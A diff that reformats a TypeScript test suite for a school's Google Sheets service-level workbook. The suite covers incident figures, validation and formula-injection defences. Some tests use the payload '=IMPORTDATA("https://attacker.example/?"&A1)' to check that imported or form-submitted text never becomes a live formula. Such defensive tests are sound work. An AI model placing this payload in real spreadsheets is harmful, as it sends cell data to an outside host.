@@ -24,7 +24,10 @@ function setCell(rt: OfflineRuntime, tab: string, row: number, header: string, v
   sheet.getRange(row, col).setValue(typeof value === 'string' && value.startsWith('new Date') ? rt.run(value) : value);
 }
 
-const failures = (rt: OfflineRuntime) => runEveryAction(rt).filter((o) => o.error !== undefined).map((o) => `${o.action}: ${o.error}`);
+const failures = (rt: OfflineRuntime) =>
+  runEveryAction(rt)
+    .filter((o) => o.error !== undefined)
+    .map((o) => `${o.action}: ${o.error}`);
 
 describe('item 1: a date outside the years 1800 to 2399 is a bad value like any other', () => {
   const cases: Array<[tab: string, header: string, value: string, shown: string]> = [
@@ -102,7 +105,10 @@ describe('item 4: a misspelt Calendars time zone is located, never thrown', () =
     const problems = rt.global.checkWorkbook() as Problem[];
     expect(problems).toContainEqual(expect.objectContaining({ tab: 'Calendars', row: 2, column: 'Time zone', value: 'Europe/Londn' }));
     const services = tabValues(rt).services!;
-    const usesIt = services.slice(1).map((r, i) => [i + 2, r] as const).filter(([, r]) => r.some((c) => String(c).toLowerCase() === name.toLowerCase()));
+    const usesIt = services
+      .slice(1)
+      .map((r, i) => [i + 2, r] as const)
+      .filter(([, r]) => r.some((c) => String(c).toLowerCase() === name.toLowerCase()));
     expect(usesIt.length).toBeGreaterThan(0);
     for (const [row] of usesIt) {
       expect(problems.some((p) => p.tab === 'Services' && p.row === row && /unknown time zone "Europe\/Londn"/.test(p.message))).toBe(true);
@@ -116,21 +122,48 @@ describe('item 3: SLM_ATTAINMENT, SLM_AVAILABILITY and the sidebar leave out and
   /** Figures per service from SLM_ATTAINMENT and from the sidebar's overview, over the same days. */
   function both(rt: OfflineRuntime) {
     const v = tabValues(rt);
-    const table = rt.global.SLM_ATTAINMENT(rt.run('new Date(2026, 8, 1)'), rt.run('new Date(2026, 10, 18)'), v.services, v.sla, v.targets, v.incidents, v.calendars, v.closures) as unknown[][];
+    const table = rt.global.SLM_ATTAINMENT(
+      rt.run('new Date(2026, 8, 1)'),
+      rt.run('new Date(2026, 10, 18)'),
+      v.services,
+      v.sla,
+      v.targets,
+      v.incidents,
+      v.calendars,
+      v.closures,
+    ) as unknown[][];
     const overview = rt.global.getOverview({ kind: 'custom', start: '2026-09-01', end: '2026-11-19' });
     const head = table[0] as string[];
     const last = table[table.length - 1];
     const notRead = String(last[0]).startsWith('Not read') ? String(last[0]) : '';
     const rows = table.slice(1).filter((r) => !String(r[0]).startsWith('Not read'));
-    const fromTable = rows.map((r) => [r[0], r[head.indexOf('Met')], r[head.indexOf('Breached')], r[head.indexOf('Pending')], r[head.findIndex((h) => /^Availability( to date)?$/.test(h))]]);
-    const fromSidebar = overview.services.map((s: { serviceId: string; met: number; breached: number; pending: number; availability: number | null }) => [s.serviceId, s.met, s.breached, s.pending, s.availability ?? '—']);
+    const fromTable = rows.map((r) => [
+      r[0],
+      r[head.indexOf('Met')],
+      r[head.indexOf('Breached')],
+      r[head.indexOf('Pending')],
+      r[head.findIndex((h) => /^Availability( to date)?$/.test(h))],
+    ]);
+    const fromSidebar = overview.services.map((s: { serviceId: string; met: number; breached: number; pending: number; availability: number | null }) => [
+      s.serviceId,
+      s.met,
+      s.breached,
+      s.pending,
+      s.availability ?? '—',
+    ]);
     return { fromTable, fromSidebar, notRead };
   }
-  const leftOut = (rt: OfflineRuntime) => (rt.global.checkWorkbook() as Problem[]).filter((p) => p.tab === 'Incidents' && /left out of the figures/.test(p.message));
+  const leftOut = (rt: OfflineRuntime) =>
+    (rt.global.checkWorkbook() as Problem[]).filter((p) => p.tab === 'Incidents' && /left out of the figures/.test(p.message));
 
   test.each([
-    ['Opened', 'last Tuesday'], ['Opened', 'new Date(3000, 0, 1)'], ['Resolved', 'new Date(2025, 0, 1)'],
-    ['Resolved', 'fixed'], ['On hold (h)', 'lots'], ['On hold (h)', -4], ['Service down', 'maybe'],
+    ['Opened', 'last Tuesday'],
+    ['Opened', 'new Date(3000, 0, 1)'],
+    ['Resolved', 'new Date(2025, 0, 1)'],
+    ['Resolved', 'fixed'],
+    ['On hold (h)', 'lots'],
+    ['On hold (h)', -4],
+    ['Service down', 'maybe'],
   ])('Incidents "%s" = %s: the row is named in the table\'s last line and left out of both', (header, value) => {
     const rt = school();
     setCell(rt, 'Incidents', 30, header, value);
@@ -142,15 +175,20 @@ describe('item 3: SLM_ATTAINMENT, SLM_AVAILABILITY and the sidebar leave out and
     expect(rt.global.getOverview({ kind: 'thisTerm' }).leftOut).toBe(1);
   });
 
-  test.each([['Type', 'Fault'], ['Priority', 'Urgent'], ['Priority', 'P2']])('Incidents "%s" = %s: the row is named and counts for availability only, in both', (header, value) => {
+  test.each([
+    ['Type', 'Fault'],
+    ['Priority', 'Urgent'],
+    ['Priority', 'P2'],
+  ])('Incidents "%s" = %s: the row is named and counts for availability only, in both', (header, value) => {
     const rt = school();
     setCell(rt, 'Incidents', 30, header, value);
     const { fromTable, fromSidebar, notRead } = both(rt);
     expect(notRead).toContain(`Incidents row 30 (${header})`);
     expect(fromTable).toEqual(fromSidebar);
     expect(leftOut(rt)).toEqual([]);
-    expect((rt.global.checkWorkbook() as Problem[]).filter((p) => p.tab === 'Incidents' && p.row === 30))
-      .toEqual([expect.objectContaining({ column: header, message: expect.stringMatching(/counts only for availability/) })]);
+    expect((rt.global.checkWorkbook() as Problem[]).filter((p) => p.tab === 'Incidents' && p.row === 30)).toEqual([
+      expect.objectContaining({ column: header, message: expect.stringMatching(/counts only for availability/) }),
+    ]);
     expect(rt.global.getOverview({ kind: 'thisTerm' }).leftOut).toBe(0);
   });
 
@@ -158,8 +196,14 @@ describe('item 3: SLM_ATTAINMENT, SLM_AVAILABILITY and the sidebar leave out and
     const rt = school();
     const v = tabValues(rt).incidents!;
     // An Internet outage inside the window measured below (1 September to 18 November 2026).
-    const down = v.findIndex((r, i) => i > 0 && r[v[0].indexOf('Service down')] === 'Yes' && r[v[0].indexOf('Service ID')] === 'INTERNET'
-      && +(r[v[0].indexOf('Opened')] as Date) >= +(rt.run('new Date(2026, 8, 1)') as Date) && +(r[v[0].indexOf('Opened')] as Date) < +(rt.run('new Date(2026, 10, 17)') as Date));
+    const down = v.findIndex(
+      (r, i) =>
+        i > 0 &&
+        r[v[0].indexOf('Service down')] === 'Yes' &&
+        r[v[0].indexOf('Service ID')] === 'INTERNET' &&
+        +(r[v[0].indexOf('Opened')] as Date) >= +(rt.run('new Date(2026, 8, 1)') as Date) &&
+        +(r[v[0].indexOf('Opened')] as Date) < +(rt.run('new Date(2026, 10, 17)') as Date),
+    );
     expect(down).toBeGreaterThan(0);
     const args = () => [rt.run('new Date(2026, 8, 1)'), rt.run('new Date(2026, 10, 18)'), tabValues(rt).incidents, 'Mon-Fri 08:00-18:00'];
     const before = rt.global.SLM_AVAILABILITY('INTERNET', ...args()) as number;
@@ -175,36 +219,64 @@ describe('item 3: SLM_ATTAINMENT, SLM_AVAILABILITY and the sidebar leave out and
     const rt0 = school();
     const log = tabValues(rt0).incidents!;
     const headers = log[0] as string[];
-    const junk = fc.constantFrom<unknown>('', 'fixed', 'lots', -1, 'maybe', 'Urgent', '11/30/2026 14:05', '1000-01-01', 'new Date(2999, 0, 1)', 'new Date(2025, 0, 1)', true, '=1+1');
+    const junk = fc.constantFrom<unknown>(
+      '',
+      'fixed',
+      'lots',
+      -1,
+      'maybe',
+      'Urgent',
+      '11/30/2026 14:05',
+      '1000-01-01',
+      'new Date(2999, 0, 1)',
+      'new Date(2025, 0, 1)',
+      true,
+      '=1+1',
+    );
     const change = fc.record({ row: fc.integer({ min: 2, max: log.length }), header: fc.constantFrom(...headers.filter((h) => h !== 'Summary')), value: junk });
-    fc.assert(fc.property(fc.array(change, { minLength: 1, maxLength: 4 }), (changes) => {
-      const rt = school();
-      for (const c of changes) setCell(rt, 'Incidents', c.row, c.header, c.value);
-      const { fromTable, fromSidebar, notRead } = both(rt);
-      expect(fromTable).toEqual(fromSidebar);
-      const named = [...notRead.matchAll(/Incidents row (\d+) \(((?:[^()]|\([^()]*\))+)\)/g)].map((m) => `${m[1]}|${m[2]}`).sort();
-      const checked = (rt.global.checkWorkbook() as Problem[]).filter((p) => p.tab === 'Incidents' && /left out of the figures|counts only for availability/.test(p.message));
-      expect(named.filter((n) => !checked.some((p) => `${p.row}|${p.column}` === n))
-        // Check workbook leaves a row with an unreadable Priority out before checking its times; the figures check them.
-        .filter((n) => !checked.some((p) => n.startsWith(`${p.row}|`) && /counts only for availability/.test(p.message)))).toEqual([]);
-      expect(checked.map((p) => `${p.row}|${p.column}`).filter((n) => !named.includes(n))).toEqual([]);
-    }), { numRuns: 12, seed: 9 });
+    fc.assert(
+      fc.property(fc.array(change, { minLength: 1, maxLength: 4 }), (changes) => {
+        const rt = school();
+        for (const c of changes) setCell(rt, 'Incidents', c.row, c.header, c.value);
+        const { fromTable, fromSidebar, notRead } = both(rt);
+        expect(fromTable).toEqual(fromSidebar);
+        const named = [...notRead.matchAll(/Incidents row (\d+) \(((?:[^()]|\([^()]*\))+)\)/g)].map((m) => `${m[1]}|${m[2]}`).sort();
+        const checked = (rt.global.checkWorkbook() as Problem[]).filter(
+          (p) => p.tab === 'Incidents' && /left out of the figures|counts only for availability/.test(p.message),
+        );
+        expect(
+          named
+            .filter((n) => !checked.some((p) => `${p.row}|${p.column}` === n))
+            // Check workbook leaves a row with an unreadable Priority out before checking its times; the figures check them.
+            .filter((n) => !checked.some((p) => n.startsWith(`${p.row}|`) && /counts only for availability/.test(p.message))),
+        ).toEqual([]);
+        expect(checked.map((p) => `${p.row}|${p.column}`).filter((n) => !named.includes(n))).toEqual([]);
+      }),
+      { numRuns: 12, seed: 9 },
+    );
   });
 });
 
 describe('item 5: user text reaches cells as text, never as a formula', () => {
-  test('formula-looking text imported into the log stays text, even with the cells\' text format reset', () => {
+  test("formula-looking text imported into the log stays text, even with the cells' text format reset", () => {
     const rt = school();
     const log = (rt.spreadsheet as unknown as Ss).getSheetByName('Incidents')!;
     // A format reset (or rows past the ones setup formatted): only the writer keeps the text a text.
     log.getRange(2, 1, log.getMaxRows() - 1, log.getMaxColumns()).setNumberFormat('General');
     const attack = '=IMPORTDATA("https://attacker.example/?"&A1)';
     const csv = require('node:fs').readFileSync(`${__dirname}/../import/samples/osticket.csv`, 'utf8') as string;
-    const text = csv.replace('Staffroom printer jams on every job', `"${attack.replace(/"/g, '""')}"`).replace('Cannot send email with attachments, says ""quota""', '+44 7700 900123 @ reception');
+    const text = csv
+      .replace('Staffroom printer jams on every job', `"${attack.replace(/"/g, '""')}"`)
+      .replace('Cannot send email with attachments, says ""quota""', '+44 7700 900123 @ reception');
     expect(text).toContain('attacker.example');
     rt.global.importIncidents(text, null);
     const values = log.getDataRange();
-    expect(values.getFormulas().flat().filter((f: string) => f !== '')).toEqual([]);
+    expect(
+      values
+        .getFormulas()
+        .flat()
+        .filter((f: string) => f !== ''),
+    ).toEqual([]);
     const summaries = values.getValues().map((r: unknown[]) => r[values.getValues()[0].indexOf('Summary')]);
     expect(summaries).toContain(attack);
     expect(summaries).toContain('+44 7700 900123 @ reception');
@@ -230,10 +302,15 @@ describe('item 5: one text-safe writer', () => {
     const ss = rt.spreadsheet as unknown as Ss;
     // A Service ID and an SLA Version as a hostile user types them (the cells are plain text, so they are text here).
     ss.getSheetByName('Services')!.getRange(2, 1).setValue(attack);
-    ss.getSheetByName('SLA')!.getRange(2, 1, ss.getSheetByName('SLA')!.getLastRow() - 1, 1).setValue(attack);
+    ss.getSheetByName('SLA')!
+      .getRange(2, 1, ss.getSheetByName('SLA')!.getLastRow() - 1, 1)
+      .setValue(attack);
     setCell(rt, 'SLA', 2, 'Version', attack);
     const docs = ss.getSheetByName('Documents')!;
-    const row = (r: number) => ({ values: docs.getRange(r, 1, 1, docs.getLastColumn()).getValues()[0], formulas: docs.getRange(r, 1, 1, docs.getLastColumn()).getFormulas()[0] });
+    const row = (r: number) => ({
+      values: docs.getRange(r, 1, 1, docs.getLastColumn()).getValues()[0],
+      formulas: docs.getRange(r, 1, 1, docs.getLastColumn()).getFormulas()[0],
+    });
     const contents = docs.getRange(1, 1, 1, docs.getLastColumn()).getValues()[0].indexOf('Contents');
     // Inside the rows Set up formatted as plain text: the text exactly as typed (no apostrophe shows).
     rt.global.generateSla(null);
@@ -256,10 +333,16 @@ describe('item 5: one text-safe writer', () => {
     const problems = recalculateRuntime(rt, NOW);
     expect(problems.filter((p) => p.tab === 'Documents')).toEqual([]);
     expect(String(row(1500).values[contents]).startsWith(attack)).toBe(true);
-    expect(docs.getDataRange().getFormulas().flat().filter((f: string) => f !== '')).toEqual([]);
+    expect(
+      docs
+        .getDataRange()
+        .getFormulas()
+        .flat()
+        .filter((f: string) => f !== ''),
+    ).toEqual([]);
   });
 
-  test('a call logged through the form lands as text at row 1,200 with the log\'s formats reset', () => {
+  test("a call logged through the form lands as text at row 1,200 with the log's formats reset", () => {
     const rt = school();
     const ss = rt.spreadsheet as unknown as Ss;
     rt.global.createCallForm();
@@ -269,8 +352,13 @@ describe('item 5: one text-safe writer', () => {
     log.getRange(log.getLastRow() + 1, 1, 1199 - log.getLastRow(), 1).setValue('Not a call');
     log.getRange(2, 1, log.getMaxRows() - 1, log.getMaxColumns()).setNumberFormat('General');
     const response = form.createResponse();
-    const answers: Record<string, string> = { 'Which service is it about?': 'Printing', 'What do you need?': 'Something is broken or not working',
-      'How bad is it?': 'I cannot work', 'What happened, or what do you need?': attack, 'Your name': '+44 7700 900123' };
+    const answers: Record<string, string> = {
+      'Which service is it about?': 'Printing',
+      'What do you need?': 'Something is broken or not working',
+      'How bad is it?': 'I cannot work',
+      'What happened, or what do you need?': attack,
+      'Your name': '+44 7700 900123',
+    };
     for (const item of form.getItems()) if (answers[item.getTitle()] !== undefined) response.withItemResponse(item.createResponse(answers[item.getTitle()]));
     response.submit();
     const sheet = form.destination!;
@@ -278,13 +366,18 @@ describe('item 5: one text-safe writer', () => {
     rt.fireTrigger('onCallLogged', { range, values: range.getDisplayValues()[0], namedValues: {} });
     expect(log.getLastRow()).toBe(1200);
     const summary = log.getRange(1, 1, 1, log.getLastColumn()).getValues()[0].indexOf('Summary') + 1;
-    expect(log.getRange(1200, 1, 1, log.getLastColumn()).getFormulas()[0].filter((f: string) => f !== '')).toEqual([]);
+    expect(
+      log
+        .getRange(1200, 1, 1, log.getLastColumn())
+        .getFormulas()[0]
+        .filter((f: string) => f !== ''),
+    ).toEqual([]);
     expect(String(log.getRange(1200, summary).getValue())).toBe(`${attack} (from +44 7700 900123, service.manager@school.example)`);
   });
 });
 
 describe('found by the fuzz test', () => {
-  test('sharing records access on the sharer\'s own row when a People row above is left out', () => {
+  test("sharing records access on the sharer's own row when a People row above is left out", () => {
     const rt = school();
     const people = (rt.spreadsheet as unknown as Ss).getSheetByName('People')!;
     const values = people.getDataRange().getValues();
@@ -295,9 +388,15 @@ describe('found by the fuzz test', () => {
     expect(jo).toBeGreaterThan(1);
     people.getRange(jo, values[0].indexOf('Role') + 1).setValue('Wizard');
     rt.global.generateSla(null);
-    const before = people.getDataRange().getValues().map((r) => r[access]);
+    const before = people
+      .getDataRange()
+      .getValues()
+      .map((r) => r[access]);
     rt.global.applySharing([{ name: 'Jo Harris', documents: true, workbook: false }]);
-    const after = people.getDataRange().getValues().map((r) => r[access]);
+    const after = people
+      .getDataRange()
+      .getValues()
+      .map((r) => r[access]);
     expect(after[jo]).toMatch(/^SLA and review \(comment\), as of /);
     expect(after.filter((_, i) => i !== jo)).toEqual(before.filter((_, i) => i !== jo));
   });
@@ -334,7 +433,10 @@ describe('item 7: named ranges grow with the tabs', () => {
       const shown = ss.getSheetByName('Dashboard')!.getDataRange().getValues();
       const head = shown.findIndex((r) => r[0] === 'Service ID');
       const h = shown[head] as string[];
-      return shown.slice(head + 1).filter((r) => r[0] !== '').reduce((n, r) => n + Number(r[h.indexOf('Met')]) + Number(r[h.indexOf('Breached')]) + Number(r[h.indexOf('Pending')]), 0);
+      return shown
+        .slice(head + 1)
+        .filter((r) => r[0] !== '')
+        .reduce((n, r) => n + Number(r[h.indexOf('Met')]) + Number(r[h.indexOf('Breached')]) + Number(r[h.indexOf('Pending')]), 0);
     };
     const before = counted();
     expect(before).toBeGreaterThan(0);
@@ -380,7 +482,10 @@ describe('item 9: server functions check their arguments where they arrive', () 
       [() => rt.global.previewImport(null, { fileId: huge }), /^options: expected the import choices/],
       [() => rt.global.importIncidents(['Ref'], {}), /^text: expected CSV text/],
       [() => rt.global.importIncidents(null, { tab: ['Export'] }), /^options: expected the import choices/],
-      [() => rt.global.importIncidents(`Ref,Summary\n${huge}${huge}${huge}${huge}${huge}${huge},x\n`, null), /^The file is 11\.4 MB; an import reads at most 10 MB/],
+      [
+        () => rt.global.importIncidents(`Ref,Summary\n${huge}${huge}${huge}${huge}${huge}${huge},x\n`, null),
+        /^The file is 11\.4 MB; an import reads at most 10 MB/,
+      ],
       [() => rt.global.importIncidents(null, null), /^Choose a CSV file, paste CSV text or name a tab to import/],
       [() => rt.global.setDigest('yes'), /^on: expected true or false/],
       [() => rt.global.setDigest(null), /^on: expected true or false/],
@@ -399,12 +504,15 @@ describe('item 9: server functions check their arguments where they arrive', () 
     expect(workbookState(rt)).toEqual(before);
     // What the panel sends still works.
     expect(rt.global.previewDigest(null) === null || typeof rt.global.previewDigest(null).subject === 'string').toBe(true);
-    expect(rt.global.previewImport('Ref,Service ID,Priority,Summary,Opened\nX1,PRINT,High,Printer,2026-11-02 09:00', { dateOrder: 'dmy', columns: { ref: 'Ref' } }).changes).toBe(true);
+    expect(
+      rt.global.previewImport('Ref,Service ID,Priority,Summary,Opened\nX1,PRINT,High,Printer,2026-11-02 09:00', { dateOrder: 'dmy', columns: { ref: 'Ref' } })
+        .changes,
+    ).toBe(true);
     expect(rt.global.applySharing([]).shared).toEqual([]);
     expect(typeof rt.global.overviewOf).toBe('undefined');
   });
 
-  test('Load example school from google.script.run asks before mixing example rows with the user\'s', () => {
+  test("Load example school from google.script.run asks before mixing example rows with the user's", () => {
     const rt = school();
     const before = workbookState(rt);
     rt.ui.respond('NO');
@@ -416,15 +524,19 @@ describe('item 9: server functions check their arguments where they arrive', () 
     expect(workbookState(rt)).toEqual(before);
   });
 
-  test('a Drive failure while choosing the document\'s name is a clear message, and nothing is created', () => {
+  test("a Drive failure while choosing the document's name is a clear message, and nothing is created", () => {
     const rt = school();
     const drive = rt.services.DriveApp as unknown as Record<string, unknown>;
-    const fail = () => { throw new Error('Service error: Drive'); };
+    const fail = () => {
+      throw new Error('Service error: Drive');
+    };
     drive.getFileById = fail;
     drive.getRootFolder = () => ({ getFilesByName: fail });
     const docs = () => [...rt.services.DriveApp.store.items.values()].filter((i) => i.mimeType === 'application/vnd.google-apps.document').length;
     const count = docs();
-    expect(message(() => rt.global.generateSla(null))).toMatch(/^The SLA could not be named: Google Drive did not answer \(Service error: Drive\)\. Nothing was created/);
+    expect(message(() => rt.global.generateSla(null))).toMatch(
+      /^The SLA could not be named: Google Drive did not answer \(Service error: Drive\)\. Nothing was created/,
+    );
     expect(docs()).toBe(count);
   });
 });
